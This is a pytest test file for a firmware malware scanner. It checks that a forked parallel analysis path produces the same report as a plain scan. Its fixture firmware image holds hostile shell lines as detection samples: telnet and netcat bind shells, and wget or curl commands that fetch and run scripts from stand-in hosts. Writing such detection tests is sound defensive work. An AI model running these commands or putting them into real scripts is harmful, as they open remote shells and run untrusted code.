"""The first tree's files worked on while unpacking goes on: the same report as without, whatever the child does."""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import tarfile
import time
from pathlib import Path

import pytest

from veracity import ahead, inventory, parallel
from veracity.checks import malcode
from veracity.scan import scan

PARENT = os.getpid()


def _image(tmp_path: Path) -> Path:
    files: dict[str, bytes] = {
        f"etc/init.d/S{n:02d}svc": (f"#!/bin/sh\ntelnetd -l /bin/sh -p {2300 + n}\n"
                                    f"wget http://cdn{n}.example-fw.cn/u -O /tmp/u && sh /tmp/u\n").encode()
        for n in range(30)
    }
    files["etc/copy-of-S00"] = files["etc/init.d/S00svc"]  # one content in two places
    files["www/app.js"] = b"fetch('https://api.vendor-cloud.com/v1/report');\n" * 200
    files["bin/busybox"] = (b"\x7fELF" + bytes(60)) * 50 + b"BusyBox v1.36.1 http://busybox.net\x00"
    # unpacked after the first tree: what the child works on meanwhile
    files["etc/defaults.gz"] = gzip.compress(b"#!/bin/sh\ncurl -s http://update.vendor-cloud.cn/fw | sh\n")
    files["usr/share/doc/tool/notes.gz"] = gzip.compress(b"see https://docs.vendor-cloud.cn/manual\n")
    target = tmp_path / "fw.tar"
    with tarfile.open(target, "w") as tf:
        for name, data in sorted(files.items()):
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755 if data.startswith(b"#!") else 0o644
            tf.addfile(info, io.BytesIO(data))
    return target


def _stable(report: dict) -> dict:
    return {k: v for k, v in report.items() if k not in ("started_at", "duration_s")}


@pytest.fixture
def worked(monkeypatch):
    """What each pass of veracity.ahead worked out: (facts, results) once it is done."""
    monkeypatch.setenv("VERACITY_NO_FORK", "0")
    monkeypatch.setattr(inventory, "PARALLEL_BYTES", 0)  # the test images are small
    seen: list[tuple[dict, dict]] = []
    real = ahead.Ahead.keep
    monkeypatch.setattr(ahead.Ahead, "keep", lambda self: seen.append((dict(self.facts), dict(self.results)))
                        or real(self))
    return seen


def _without(monkeypatch, target: Path, workdir: Path, cache: Path | None = None) -> dict:
    with monkeypatch.context() as m:
        m.setattr(ahead.Ahead, "__call__", lambda self, tree, trees, rest: rest())
        return scan(target, workdir=workdir, cache_path=cache)


def test_the_report_is_the_same_with_and_without_working_ahead(tmp_path, monkeypatch, worked):
    target = _image(tmp_path)
    alone = _without(monkeypatch, target, tmp_path / "a")
    assert worked == [({}, {})]  # nothing was worked ahead
    shared = scan(target, workdir=tmp_path / "b")
    facts, results = worked[-1]
    assert len(facts) >= 33 and {ns for ns, _ in results} >= {"malcode-file", "egress-file"}
    # the file unpacked from etc/defaults.gz was worked on too, here, while the child took shares
    assert "defaults" in {Path(p).name for p in facts}
    assert _stable(shared) == _stable(alone)
    rules = {f["rule"] for f in shared["findings"]}
    assert {"VER-MAL-005"} <= rules  # the downloaded-and-run script, inside the .gz unpacked meanwhile
    hosts = {e["host"] for e in shared["endpoints"]}
    assert "update.vendor-cloud.cn" in hosts and "docs.vendor-cloud.cn" not in hosts  # the .gz of documentation


def test_the_child_works_while_unpacking_goes_on_and_what_it_found_is_kept(tmp_path, monkeypatch, worked):
    target = _image(tmp_path)
    cache = tmp_path / "cache.sqlite"
    pids = tmp_path / "pids"
    real_task = ahead.Ahead._work

    def slow_rest(self, tree, trees, groups, rest):
        def rest_later():
            time.sleep(1.0)  # unpacking takes a while: the child starts on the shares meanwhile
            rest()
        return real_task(self, tree, trees, groups, rest_later)

    real_analyse = inventory.analyse_file

    def analyse(node, patterns):
        with pids.open("a") as fh:
            fh.write(f"{os.getpid()}\n")
        return real_analyse(node, patterns)

    monkeypatch.setattr(ahead.Ahead, "_work", slow_rest)
    monkeypatch.setattr(inventory, "analyse_file", analyse)
    first = scan(target, workdir=tmp_path / "a", cache_path=cache)
    assert worked and worked[-1][1]
    assert set(pids.read_text().split()) - {str(PARENT)}  # the child worked while unpacking went on here
    # the next scan recalls every result kept here: no file is worked on again
    calls: list[str] = []
    real_entries = malcode.MalcodeCheck._entries
    monkeypatch.setattr(malcode.MalcodeCheck, "_entries", staticmethod(
        lambda item, inv, memo, strings_memo: calls.append(item.node.path) or real_entries(item, inv, memo, strings_memo)))
    again = _without(monkeypatch, target, tmp_path / "b", cache)
    assert _stable(again)["findings"] == _stable(first)["findings"]
    assert calls == []


@pytest.mark.parametrize("trouble", ["child dies", "past the deadline", "a check breaks", "a bug in a share",
                                     "a bug before the fork"])
def test_trouble_ahead_changes_nothing(tmp_path, monkeypatch, worked, trouble):
    target = _image(tmp_path)
    alone = _without(monkeypatch, target, tmp_path / "a")
    if trouble == "child dies":
        real = inventory.analyse_file

        def analyse(node, patterns):
            if os.getpid() != PARENT:
                os._exit(9)
            return real(node, patterns)

        monkeypatch.setattr(inventory, "analyse_file", analyse)
    elif trouble == "past the deadline":
        real_init = ahead.Ahead.__init__

        def init(self, *args, **kwargs):
            real_init(self, *args, **kwargs)
            self.deadline = time.monotonic() - 1

        monkeypatch.setattr(ahead.Ahead, "__init__", init)
    elif trouble == "a check breaks":
        def broken(self, inv, part, parts):
            raise RuntimeError("boom")

        monkeypatch.setattr(malcode.MalcodeCheck, "prefetch", broken)
    else:
        def bug(*args, **kwargs):
            raise RuntimeError("a bug")

        if trouble == "a bug in a share":
            monkeypatch.setattr(ahead, "Item", bug)  # used by the pass alone
        else:
            monkeypatch.setattr(ahead.Ahead, "_groups", bug)
    report = scan(target, workdir=tmp_path / "b")
    assert _stable(report) == _stable(alone)
    facts, results = worked[-1]
    if trouble == "past the deadline":
        assert facts == {} and results == {}
    if trouble == "child dies":  # its shares were done here
        assert len(facts) >= 33 and results
    if trouble == "a check breaks":
        assert facts and "malcode-file" not in {ns for ns, _ in results}
    if trouble == "a bug in a share":  # the first file of each share (and of the nested trees' files, analysed
        # here meanwhile) was analysed, no check result came back
        assert 0 < len(facts) <= ahead.SHARES + 1 and results == {}
    if trouble == "a bug before the fork":
        assert facts == {} and results == {}


def test_no_fork_means_no_work_ahead(tmp_path, monkeypatch, worked):
    monkeypatch.setenv("VERACITY_NO_FORK", "1")
    calls: list[int] = []
    real = parallel.shared
    monkeypatch.setattr(parallel, "shared", lambda count, task, **kw: calls.append(count) or real(count, task, **kw))
    scan(_image(tmp_path), workdir=tmp_path)
    assert worked == [({}, {})] and ahead.SHARES not in calls


def test_files_are_worked_on_while_their_filesystem_is_read(tmp_path, monkeypatch, worked):
    """A large tree's files go to a child in batches as they are written; a file written again after its batch was
    read counts as it is in the end."""
    target = _image(tmp_path)
    with tarfile.open(target, "a") as tf:  # the same path again, other content: an archive's later member wins
        data = b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"
        info = tarfile.TarInfo("etc/init.d/S00svc")
        info.size, info.mode = len(data), 0o755
        tf.addfile(info, io.BytesIO(data))
    alone = _without(monkeypatch, target, tmp_path / "a")
    monkeypatch.setattr(ahead, "BATCH_BYTES", 1)  # a file per batch
    real_wrote = ahead.Ahead._wrote

    def wrote(self, node):  # a slow filesystem: the child keeps up, every file goes to it
        if self._stream is not None:
            end = time.monotonic() + 5
            while not self._stream.idle and time.monotonic() < end:
                self._take(self._stream.answers())
        return real_wrote(self, node)

    taken: list[dict] = []
    real_take = ahead.Ahead._take
    monkeypatch.setattr(ahead.Ahead, "_wrote", wrote)
    monkeypatch.setattr(ahead.Ahead, "_take", lambda self, answers: taken.extend(a[0] for a in answers if a)
                        or real_take(self, answers))
    report = scan(target, workdir=tmp_path / "b")
    assert _stable(report) == _stable(alone)
    streamed = [(path, facts.sha256) for batch in taken for path, facts in batch.items()]
    assert len(streamed) >= 33  # the files, answered by the child while the tree was read
    facts, results = worked[-1]
    assert len(facts) >= 33 and results
    rewritten = [p for p in facts if p.endswith("/etc/init.d/S00svc")]
    assert len(rewritten) == 1 and facts[rewritten[0]].sha256 == hashlib.sha256(data).hexdigest()
    # the child read the first S00svc; that answer was set aside when the tree was complete
    assert {sha for path, sha in streamed if path == rewritten[0]} - {hashlib.sha256(data).hexdigest()}
    assert [f["evidence"].split(" ")[0] for f in report["findings"] if f["path"] == "/etc/init.d/S00svc"
            and f["rule"].startswith("VER-MAL")] == ["netcat-exec"]


def test_nothing_is_streamed_without_checks_or_for_a_small_tree(tmp_path, monkeypatch, worked):
    sent: list[int] = []
    real_init = parallel.Stream.__init__
    monkeypatch.setattr(parallel.Stream, "__init__", lambda self, *a, **k: sent.append(1) or real_init(self, *a, **k))
    from veracity.options import ScanOptions

    scan(_image(tmp_path), workdir=tmp_path / "a", options=ScanOptions(checks=()))
    assert sent == []
    # a tree large enough to share but smaller than a batch: no child until a batch is ready, so none
    scan(_image(tmp_path), workdir=tmp_path / "c")
    assert sent == []
    monkeypatch.setattr(inventory, "PARALLEL_BYTES", 10**9)
    scan(_image(tmp_path), workdir=tmp_path / "b")
    assert sent == []


def test_the_child_is_started_with_the_first_batch_and_lief_imported_for_it_once(tmp_path, monkeypatch, worked):
    """The child is forked when the first batch is ready, after this process imported lief if the batch holds a
    program (both processes then have it, imported once)."""
    monkeypatch.setattr(ahead, "BATCH_BYTES", 1)
    imported: list[str] = []
    started: list[list[str]] = []
    real_import = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__

    def spy(name, *args, **kwargs):
        if name == "lief":
            imported.append(name)
        return real_import(name, *args, **kwargs)

    real_init = parallel.Stream.__init__

    def init(self, *args, **kwargs):
        started.append(list(imported))
        return real_init(self, *args, **kwargs)

    monkeypatch.setattr("builtins.__import__", spy)
    monkeypatch.setattr(parallel.Stream, "__init__", init)
    real_start = ahead.Ahead._start
    pending: list[list[str]] = []
    monkeypatch.setattr(ahead.Ahead, "_start", lambda self: pending.append([n.path for n in self._pending])
                        or real_start(self))
    scan(_image(tmp_path), workdir=tmp_path / "a")
    assert len(started) == 1 and len(pending) == 1 and pending[0]  # one child, forked with the first batch
    first = pending[0]
    assert ("lief" in started[0]) == ("/bin/busybox" in first)  # imported before the fork for a program only


@pytest.mark.parametrize("trouble", ["child dies", "a batch breaks", "sending breaks"])
def test_trouble_while_streaming_changes_nothing(tmp_path, monkeypatch, worked, trouble):
    target = _image(tmp_path)
    alone = _without(monkeypatch, target, tmp_path / "a")
    monkeypatch.setattr(ahead, "BATCH_BYTES", 1)
    real = ahead.Ahead._analyse
    calls = {"n": 0}

    def analyse(self, tree, groups, trees, **kw):
        calls["n"] += 1
        if os.getpid() != PARENT and calls["n"] == 3:  # the stream child's third batch
            if trouble == "child dies":
                os._exit(9)
            raise RuntimeError("a bug")
        return real(self, tree, groups, trees, **kw)

    monkeypatch.setattr(ahead.Ahead, "_analyse", analyse)
    if trouble == "sending breaks":
        real_groups = ahead.Ahead._groups
        sent = {"n": 0}

        def groups(self, nodes):
            sent["n"] += 1
            if sent["n"] == 2:  # the second batch, while reading or the last one: the rest is shared
                raise RuntimeError("a bug")
            return real_groups(self, nodes)

        monkeypatch.setattr(ahead.Ahead, "_groups", groups)
    report = scan(target, workdir=tmp_path / "b")
    assert _stable(report) == _stable(alone)
    facts, _results = worked[-1]
    assert len(facts) >= 30


def test_an_extractor_that_breaks_while_its_tree_is_streamed_changes_nothing(tmp_path, monkeypatch, worked):
    """Unpacking ends by an error halfway through the tree: the child is stopped, and what it found counts for the
    files that are on disk as it read them, exactly as the inventory would see them without it."""
    from veracity.unpack import native

    target = _image(tmp_path)
    real = native.extract_tar

    def half(path, fmt, w, *args, **kwargs):
        written = []
        real_file = w.file

        def file(raw, chunks, *a, **k):
            node = real_file(raw, chunks, *a, **k)
            written.append(node)
            if len(written) == 20:
                raise RuntimeError("an extractor bug")
            return node

        w.file = file
        return real(path, fmt, w, *args, **kwargs)

    monkeypatch.setattr(native, "extract_tar", half)
    alone = _without(monkeypatch, target, tmp_path / "a")
    assert any("an extractor bug" in f["evidence"] for f in alone["findings"])
    monkeypatch.setattr(ahead, "BATCH_BYTES", 1)
    report = scan(target, workdir=tmp_path / "b")
    assert _stable(report) == _stable(alone)
